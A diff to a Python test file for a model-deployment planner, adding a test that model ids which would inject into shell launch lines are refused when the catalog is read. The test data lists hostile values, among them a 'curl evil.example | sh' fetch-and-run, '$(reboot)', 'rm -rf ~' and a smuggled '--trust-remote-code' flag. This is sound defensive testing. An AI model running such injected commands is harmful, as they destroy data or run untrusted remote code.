@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import itertools
 import json
+import shutil
 import subprocess
 from typing import get_args
 
@@ -15,12 +16,12 @@ import yaml
 
 from breakeven.catalog.schema import OpenModel, Quant
 from breakeven.errors import InputError
-from breakeven.loaders import load_catalog
+from breakeven.loaders import default_catalog_dir, load_catalog
 from breakeven.planner.checkpoint import CHECKPOINT_VAR, ONLINE, weights_for
 from breakeven.planner.deploy import launch_lines
 from breakeven.planner.sizing import size
 from tests.support.launch import trt_options
-from tests.support.paths import EXAMPLES, ROOT
+from tests.support.paths import EXAMPLES
 
 QUANTS = get_args(Quant)  # every format the catalog has a word for, a new one included
 # what each engine's quantize-at-load flag must say for each format
@@ -143,17 +144,6 @@ def test_a_checkpoint_of_the_models_own_format_is_refused(catalog):
         OpenModel.model_validate(row)
 
 
-def test_a_bad_checkpoints_entry_in_a_catalog_file_names_the_file(tmp_path):
-    for f in (ROOT / "src" / "breakeven" / "catalog" / "data").glob("*.yaml"):
-        (tmp_path / f.name).write_text(f.read_text())
-    path = tmp_path / "open_models.yaml"
-    data = yaml.safe_load(path.read_text())
-    data["models"][0]["checkpoints"] = {"fp5": "org/x"}
-    path.write_text(yaml.safe_dump(data))
-    with pytest.raises(InputError, match=r"open_models\.yaml"):
-        load_catalog(tmp_path)
-
-
 def test_plan_with_4_bit_float_weights_gives_launch_lines(tmp_path, run_cli):
     """Once a traceback: a workload that allows NVFP4 on B200 made the launch lines look
     up a vLLM flag for fp4."""
@@ -201,3 +191,27 @@ def test_a_server_started_from_a_checkpoint_is_the_catalogs_model(catalog):
         for repo in model.checkpoints.values():
             assert catalog.model(repo).id == model.id
             assert catalog.model(repo.upper()).id == model.id
+
+
+@pytest.mark.parametrize(("field", "value"), [
+    ("hf_ids", ["org/model; curl evil.example | sh"]),
+    ("hf_ids", ["org/$(reboot)"]),
+    ("hf_ids", ["no-owner"]),
+    ("hf_ids", ["org/model name"]),
+    ("checkpoints", {"fp4": "org/x}`id`"}),
+    ("checkpoints", {"awq": "org/x\n--trust-remote-code"}),
+    ("id", "llama; rm -rf ~"),
+    ("checkpoints", {"fp5": "org/x"}),  # no such format
+])
+def test_ids_that_would_change_a_launch_line_are_refused_naming_the_file(tmp_path, field,
+                                                                         value):
+    """Model ids go into shell launch lines as they are: anything but a Hugging Face repo
+    id (owner/name of letters, digits, '.', '_', '-') is refused where the catalog is read,
+    not pasted into a command; so is a checkpoint of a format there is no word for."""
+    shutil.copytree(default_catalog_dir(), tmp_path, dirs_exist_ok=True)
+    path = tmp_path / "open_models.yaml"
+    data = yaml.safe_load(path.read_text())
+    data["models"][0][field] = value
+    path.write_text(yaml.safe_dump(data))
+    with pytest.raises(InputError, match=rf"open_models\.yaml: models\[0\]\.{field}"):
+        load_catalog(tmp_path)
